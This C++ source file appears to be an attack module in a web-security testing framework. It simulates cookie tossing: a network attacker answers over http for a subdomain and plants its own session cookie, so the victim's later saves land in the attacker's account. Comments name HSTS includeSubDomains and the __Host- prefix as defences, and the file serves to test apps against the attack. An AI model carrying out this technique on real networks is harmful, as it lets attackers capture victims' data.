// wire-tossing: in the victim's network, as in a café, answers in the clear for a name below the
// app's and sets the attacker's own session for the parent domain. What the victim then saves is
// saved in the attacker's account. HSTS with includeSubDomains leaves nobody to answer (RFC 6797
// 14.4), and a cookie with the prefix __Host- cannot be set that way (RFC 6265bis 4.1.3.2).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/session.h"
#include "core/attack/tossed_cookies.h"

namespace parapet::attack {
namespace {

class WireTossing final : public Agent {
    void run(Target& target) override {
        if (target.line() == nullptr || target.victim() == nullptr) return;
        Credentials const own = own_credentials(target);
        std::string const below = random_word(target, 6) + "." + target.surface().host;
        http::Response const welcome =
            page("<h1>Welcome to the Wi-Fi</h1>", tossed_cookies(target, own));
        // What the browser remembers of the app is what the last answer said.
        std::vector<std::string> visits = split(target.option(option::kFirst), ',');
        if (visits.empty()) visits.emplace_back();
        for (std::string const& visit : visits) {
            if (!visit.empty()) (void)target.victim()->does(visit);
            target.line()->meddle([&](http::Request const& request, Line::Beyond const& beyond) {
                return request.host == below ? welcome : beyond(request);
            });
            target.victim()->opens("http://" + below + "/");
            target.victim()->turns_away();
            target.line()->leave();
        }
        // Before he signs in: over http nobody replaces a Secure cookie that is there already. Who
        // is greeted by another's name may wonder, and go on.
        (void)victim_signs_in(target);
        victim_does(target, routines_option(target, option::kDoes));
        use(target, own);
        look_into_own_account(target);
        target.note("Whoever answers for http://" + below + " sets cookies for the app.");
    }
};

}  // namespace

std::unique_ptr<Agent> make_wire_tossing() { return std::make_unique<WireTossing>(); }

}  // namespace parapet::attack
